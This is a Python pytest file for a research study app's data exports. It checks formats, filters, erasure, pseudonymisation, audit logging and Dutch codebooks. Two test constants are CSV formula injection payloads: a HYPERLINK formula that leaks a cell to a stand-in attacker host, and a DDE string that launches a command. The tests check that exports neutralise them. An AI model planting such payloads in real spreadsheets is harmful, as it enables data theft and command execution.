"""Exports through the admin and the CLI: every format, pseudonyms only, audit-logged, erasure shows at once."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pyreadstat
import pytest
from flask.testing import FlaskClient
from sqlmodel import Session, select

from studyapp.core.models import AuditEvent
from studyapp.core.types import utcnow
from studyapp.exports.service import FORMATS as FORMATS_ALL
from tests.factories import (
    enrol,
    invite_with_token,
    login,
    make_cohort,
    make_flow_instrument,
    make_instrument,
    make_study,
    make_user,
    make_wave,
    submit_response,
)

PEOPLE = [
    ("ana.jansen@student.ut.nl", "Ana Jansen", True),
    ("bram.devries@saxion.nl", "Bram de Vries", False),
    ("carla.smit@example.org", "Carla Smit", True),
]


@pytest.fixture
def fieldwork(session: Session) -> dict:
    study = make_study(session)
    cohort = make_cohort(session, study)
    instrument = make_instrument(session)
    t1 = make_wave(session, cohort, instrument, label="T1")
    t2 = make_wave(session, cohort, instrument, label="T2")
    people = []
    for n, (email, name, keep) in enumerate(PEOPLE):
        participant = enrol(session, cohort, email, name=name, keep_data=keep, external_id=f"s10{n}")
        invitation, _ = invite_with_token(session, participant, t1)
        submit_response(session, invitation, {"cc_1": n + 1, "cc_2": 3 - n})
        if n < 2:
            invitation, _ = invite_with_token(session, participant, t2)
            submit_response(session, invitation, {"cc_1": 3})
        people.append(participant)
    return {"study": study, "cohort": cohort, "t1": t1, "t2": t2, "people": people}


def _download(client: FlaskClient, study_id: int, **form: object) -> dict[str, bytes]:
    response = client.post(f"/studies/{study_id}/export", data=form, buffered=False)
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
    assert response.mimetype == "application/zip"
    # streamed from a temporary file, not held in the worker's memory as one bytes object
    assert response.is_streamed
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    data = response.get_data()
    response.close()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _wide(files: dict[str, bytes]) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(next(v for k, v in files.items() if k.endswith("_wide.csv"))), encoding="utf-8-sig")


def test_admin_export_has_every_format(client: FlaskClient, session: Session, fieldwork: dict, tmp_path: Path) -> None:
    make_user(session)
    login(client)
    study = fieldwork["study"]
    assert "SPSS .sav" in client.get(f"/studies/{study.id}/export").get_data(as_text=True)
    files = _download(
        client,
        study.id,
        formats=["long_csv", "wide_csv", "sav", "parquet", "codebook_json", "codebook_html"],
        language="nl",
    )
    assert sorted(files) == sorted(
        f"bridge-the-gap{suffix}"
        for suffix in ("_long.csv", "_wide.csv", ".sav", ".parquet", "_codebook.json", "_codebook.html")
    )
    wide = _wide(files)
    assert len(wide) == 5 and set(wide["wave"]) == {"T1", "T2"}
    assert set(wide["pseudonym"]) == {p.pseudonym for p in fieldwork["people"]}
    ana_t1 = wide[(wide["pseudonym"] == fieldwork["people"][0].pseudonym) & (wide["wave"] == "T1")].iloc[0]
    assert (ana_t1["cc_1"], ana_t1["cc_2"]) == (1, 3)

    sav = tmp_path / "x.sav"
    sav.write_bytes(files["bridge-the-gap.sav"])
    frame, meta = pyreadstat.read_sav(str(sav))
    assert meta.column_names_to_labels["cc_1"] == "Ik weet wat ik wil"  # Dutch labels were asked for
    assert meta.variable_value_labels["cc_1"] == {1.0: "oneens", 2.0: "neutraal", 3.0: "eens"}
    assert len(frame) == 5

    parquet = tmp_path / "x.parquet"
    parquet.write_bytes(files["bridge-the-gap.parquet"])
    table = pq.read_table(parquet)
    assert table.num_rows == 5 and b"codebook" in table.schema.metadata
    codebook = json.loads(files["bridge-the-gap_codebook.json"])
    assert any(v["name"] == "cc_2" and v["reverse"] for v in codebook["variables"])
    event = session.exec(select(AuditEvent).where(AuditEvent.action == "data.exported")).one()
    assert event.detail["responses"] == 5 and event.actor == "researcher@example.org"


def test_export_by_cohort_and_wave(client: FlaskClient, session: Session, fieldwork: dict) -> None:
    make_user(session)
    login(client)
    other = make_cohort(session, fieldwork["study"], "Young professionals")
    files = _download(client, fieldwork["study"].id, waves=[fieldwork["t2"].id], formats=["wide_csv"])
    assert set(_wide(files)["wave"]) == {"T2"} and len(_wide(files)) == 2
    files = _download(client, fieldwork["study"].id, cohorts=[other.id], formats=["wide_csv"])
    assert len(_wide(files)) == 0


def test_erasure_and_withdrawal_show_in_the_next_export(client: FlaskClient, session: Session, fieldwork: dict) -> None:
    make_user(session)
    login(client)
    ana, bram, carla = fieldwork["people"]
    client.post(f"/participants/{bram.id}/erase")  # consented to deletion: answers go
    client.post(f"/participants/{carla.id}/withdraw")  # consented to keeping: answers stay, pseudonymous
    wide = _wide(_download(client, fieldwork["study"].id, formats=["wide_csv"]))
    assert bram.pseudonym not in set(wide["pseudonym"])
    assert {ana.pseudonym, carla.pseudonym} == set(wide["pseudonym"])


def test_cli_export(app, runner, session: Session, fieldwork: dict, tmp_path: Path) -> None:
    result = runner.invoke(
        args=[
            "export",
            "--study",
            "bridge-the-gap",
            "--wave",
            "T1",
            "--format",
            "long_csv",
            "--format",
            "sav",
            "--out",
            str(tmp_path / "out"),
        ]
    )
    assert result.exit_code == 0, result.output
    long = pd.read_csv(tmp_path / "out" / "bridge-the-gap_long.csv", encoding="utf-8-sig")
    assert len(long) == 6 and set(long["wave"]) == {"T1"}
    assert (tmp_path / "out" / "bridge-the-gap.sav").exists()
    result = runner.invoke(args=["export", "--study", "bridge-the-gap", "--format", "xls", "--out", str(tmp_path)])
    assert result.exit_code != 0 and "unknown export format" in result.output
    assert session.exec(select(AuditEvent).where(AuditEvent.action == "data.exported")).first().actor == "cli"


def test_no_identity_in_any_export_or_the_audit_log(client: FlaskClient, session: Session, fieldwork: dict) -> None:
    """Every export format and the audit log's export are searched for the test people's e-mails and names."""
    make_user(session, role="admin", can_view_identities=True)
    login(client)
    study = fieldwork["study"]
    # Views that reveal identities (audited) happen first, so their log entries are in the search too.
    client.get(f"/participants/{fieldwork['people'][0].id}?identity=1")
    client.get(f"/studies/{study.id}/participants?identities=1")
    client.post(f"/participants/{fieldwork['people'][0].id}/email", data={"email": "ana.new@gmail.com"})
    files = _download(
        client, study.id, formats=["long_csv", "wide_csv", "sav", "parquet", "codebook_json", "codebook_html"]
    )
    audit_csv = client.get("/audit.csv")
    assert audit_csv.status_code == 200
    files["audit.csv"] = audit_csv.data
    files["audit.html"] = client.get("/audit").data
    needles = [email for email, _, _ in PEOPLE] + ["ana.new@gmail.com"]
    needles += [part for _, name, _ in PEOPLE for part in name.split() if len(part) > 3]
    needles += [f"s10{n}" for n in range(len(PEOPLE))]  # external ids
    for name, content in files.items():
        text = content.decode("utf-8", errors="ignore").lower()
        for needle in needles:
            assert needle.lower() not in text, f"{needle!r} found in {name}"
    assert session.exec(select(AuditEvent).where(AuditEvent.action == "identity.viewed")).all()


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def typed_formulas(session: Session) -> dict:
    """A participant who typed spreadsheet formulas as their own title and remarks, through their link."""
    study = make_study(session)
    cohort = make_cohort(session, study)
    wave = make_wave(session, cohort, make_flow_instrument(session))
    participant = enrol(session, cohort, "ada@example.org")
    invitation, token = invite_with_token(session, participant, wave)
    invitation.closes_at = utcnow() + timedelta(days=30)
    session.add(invitation)
    session.commit()
    return {"study": study, "token": token, "participant": participant}


def _csv(files: dict[str, bytes], suffix: str) -> list[dict[str, str]]:
    """The cells of one CSV in the zip exactly as written (as Excel's import sees them)."""
    text = next(v for k, v in files.items() if k.endswith(suffix)).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _type_formulas(client: FlaskClient, token: str) -> None:
    participant = client.application.test_client()
    page = participant.post(
        f"/p/{token}/s/profession", data={"prof_title": "4", "prof_title_other": FORMULA, "action": "next"}
    )
    assert page.status_code == 302
    assert participant.post(f"/p/{token}/s/background/autosave", data={"bg_remarks": DDE}).status_code == 200


def test_formulas_typed_by_a_participant_are_text_in_the_csv_exports(
    client: FlaskClient, session: Session, typed_formulas: dict
) -> None:
    _type_formulas(client, typed_formulas["token"])
    make_user(session)
    login(client)
    study = typed_formulas["study"]
    page = client.get(f"/studies/{study.id}/export").get_data(as_text=True)
    assert 'name="raw_text"' in page and "apostrophe" in page
    files = _download(client, study.id, formats=["long_csv", "wide_csv", "sav", "codebook_json"])
    wide = _csv(files, "_wide.csv")[0]
    assert wide["prof_title_other"] == "'" + FORMULA and wide["bg_remarks"] == "'" + DDE
    assert wide["prof_title"] == "4"  # numbers stay numbers
    long = {row["item"]: row["value"] for row in _csv(files, "_long.csv")}
    assert long["prof_title_other"] == "'" + FORMULA and long["bg_remarks"] == "'" + DDE
    frame, _ = pyreadstat.read_sav(io.BytesIO(files["bridge-the-gap.sav"]))  # not a spreadsheet: as typed
    assert frame["prof_title_other"].tolist() == [FORMULA]
    assert json.loads(files["bridge-the-gap_codebook.json"])["csv_text"]["formulas_neutralised"] is True
    event = session.exec(select(AuditEvent).where(AuditEvent.action == "data.exported")).one()
    assert event.detail["raw_text"] is False


def test_raw_text_export_for_r_and_python_is_audit_logged(
    client: FlaskClient, session: Session, typed_formulas: dict
) -> None:
    _type_formulas(client, typed_formulas["token"])
    make_user(session)
    login(client)
    files = _download(client, typed_formulas["study"].id, formats=["wide_csv", "codebook_json"], raw_text="y")
    assert _csv(files, "_wide.csv")[0]["prof_title_other"] == FORMULA
    assert json.loads(files["bridge-the-gap_codebook.json"])["csv_text"]["formulas_neutralised"] is False
    event = session.exec(select(AuditEvent).where(AuditEvent.action == "data.exported")).one()
    assert event.detail["raw_text"] is True


def test_cli_export_neutralises_formulas_unless_raw_text(
    client: FlaskClient, runner, session: Session, typed_formulas: dict, tmp_path: Path
) -> None:
    _type_formulas(client, typed_formulas["token"])
    args = ["export", "--study", "bridge-the-gap", "--format", "wide_csv"]
    assert runner.invoke(args=[*args, "--out", str(tmp_path / "safe")]).exit_code == 0
    assert runner.invoke(args=[*args, "--raw-text", "--out", str(tmp_path / "raw")]).exit_code == 0
    safe = pd.read_csv(tmp_path / "safe" / "bridge-the-gap_wide.csv", encoding="utf-8-sig")
    raw = pd.read_csv(tmp_path / "raw" / "bridge-the-gap_wide.csv", encoding="utf-8-sig")
    assert safe["prof_title_other"].tolist() == ["'" + FORMULA] and raw["prof_title_other"].tolist() == [FORMULA]
    events = session.exec(select(AuditEvent).where(AuditEvent.action == "data.exported").order_by(AuditEvent.id))
    assert [e.detail["raw_text"] for e in events] == [False, True]


def _started_not_submitted(session: Session, fieldwork: dict) -> None:
    """Carla starts T2 and leaves it unsubmitted."""
    invitation, _ = invite_with_token(session, fieldwork["people"][2], fieldwork["t2"])
    response = submit_response(session, invitation, {"cc_1": 2})
    response.submitted_at = None
    session.add(response)
    session.commit()


def test_every_format_says_which_responses_were_submitted_and_can_leave_the_others_out(
    client: FlaskClient, session: Session, fieldwork: dict, tmp_path: Path
) -> None:
    _started_not_submitted(session, fieldwork)
    make_user(session)
    login(client)
    study = fieldwork["study"]
    carla = fieldwork["people"][2].pseudonym
    everything = _download(client, study.id, formats=list(FORMATS_ALL))
    wide = _wide(everything)
    assert len(wide) == 6
    assert wide.set_index(["pseudonym", "wave"])["submitted"].to_dict()[(carla, "T2")] == 0
    assert sorted(wide["submitted"]) == [0, 1, 1, 1, 1, 1]
    long = pd.read_csv(io.BytesIO(everything["bridge-the-gap_long.csv"]), encoding="utf-8-sig")
    assert set(long.loc[(long["pseudonym"] == carla) & (long["wave"] == "T2"), "submitted"]) == {0}
    sav = tmp_path / "all.sav"
    sav.write_bytes(everything["bridge-the-gap.sav"])
    frame, meta = pyreadstat.read_sav(str(sav))
    assert sorted(frame["submitted"]) == [0, 1, 1, 1, 1, 1] and "Submitted" in meta.column_names_to_labels["submitted"]
    parquet = tmp_path / "all.parquet"
    parquet.write_bytes(everything["bridge-the-gap.parquet"])
    assert sorted(pq.read_table(parquet).column("submitted").to_pylist()) == [0, 1, 1, 1, 1, 1]
    codebook = json.loads(everything["bridge-the-gap_codebook.json"])
    entry = next(v for v in codebook["variables"] if v["name"] == "submitted")
    assert entry["label"].startswith("Submitted (1 = submitted, 0 = started but not submitted)")
    assert "submitted" in everything["bridge-the-gap_codebook.html"].decode()

    only = _download(client, study.id, formats=list(FORMATS_ALL), submitted_only="y")
    wide = _wide(only)
    assert len(wide) == 5 and set(wide["submitted"]) == {1}
    long = pd.read_csv(io.BytesIO(only["bridge-the-gap_long.csv"]), encoding="utf-8-sig")
    assert set(long["submitted"]) == {1} and not ((long["pseudonym"] == carla) & (long["wave"] == "T2")).any()
    sav.write_bytes(only["bridge-the-gap.sav"])
    assert len(pyreadstat.read_sav(str(sav))[0]) == 5
    parquet.write_bytes(only["bridge-the-gap.parquet"])
    assert pq.read_table(parquet).num_rows == 5
    assert json.loads(only["bridge-the-gap_codebook.json"])["summary"]["n_responses"] == 5
    events = session.exec(select(AuditEvent).where(AuditEvent.action == "data.exported")).all()
    assert [e.detail["submitted_only"] for e in events] == [False, True]


def test_cli_export_can_leave_out_unsubmitted_responses(
    runner, session: Session, fieldwork: dict, tmp_path: Path
) -> None:
    _started_not_submitted(session, fieldwork)
    args = ["export", "--study", "bridge-the-gap", "--format", "wide_csv"]
    assert runner.invoke(args=[*args, "--out", str(tmp_path / "all")]).exit_code == 0
    result = runner.invoke(args=[*args, "--submitted-only", "--out", str(tmp_path / "only")])
    assert result.exit_code == 0, result.output
    every = pd.read_csv(tmp_path / "all" / "bridge-the-gap_wide.csv", encoding="utf-8-sig")
    only = pd.read_csv(tmp_path / "only" / "bridge-the-gap_wide.csv", encoding="utf-8-sig")
    assert (len(every), len(only)) == (6, 5) and set(only["submitted"]) == {1}


def test_a_dutch_researchers_codebook_reads_dutch(client: FlaskClient, session: Session, fieldwork: dict) -> None:
    """The codebook page's headings and words follow its labels' language, which defaults to the researcher's."""
    make_user(session, email="nl@example.org", language="nl")
    login(client, "nl@example.org")
    study = fieldwork["study"]
    page = client.get(f"/studies/{study.id}/export").get_data(as_text=True)
    assert _checked(page) == "nl"
    # how text is written to CSV, on the page and in the codebook
    assert "zodat Excel en LibreOffice hem als tekst tonen" in page and "so that Excel and LibreOffice" not in page
    files = _download(client, study.id, formats=["codebook_html"], language="nl")
    html = next(v for k, v in files.items() if k.endswith("_codebook.html")).decode("utf-8")
    dutch_words = (
        "<h1>Codeboek</h1>",
        "Over deze export",
        "<h2>Variabelen</h2>",
        "<th>Ontbrekend</th>",
        "<dt>antwoorden</dt>",
    )
    for dutch in dutch_words:
        assert dutch in html, dutch
    assert "Tekst in de CSV-bestanden" in html and "zodat Excel en LibreOffice hem als tekst tonen" in html
    for english in (
        "so that Excel and LibreOffice",
        "<h1>Codebook</h1>",
        "About this export",
        "<th>Missing</th>",
        "<dt>responses</dt>",
    ):
        assert english not in html, english
    english_files = _download(client, study.id, formats=["codebook_html"], language="en")
    english_html = next(v for k, v in english_files.items() if k.endswith("_codebook.html")).decode("utf-8")
    assert "<h1>Codebook</h1>" in english_html and "About this export" in english_html


def _checked(page: str) -> str | None:
    """The value of the checked language radio of the export form."""
    import re

    for tag in re.findall(r"<input[^>]*name=\"language\"[^>]*>", page):
        if "checked" in tag:
            return re.search(r'value="([^"]+)"', tag).group(1)  # type: ignore[union-attr]
    return None
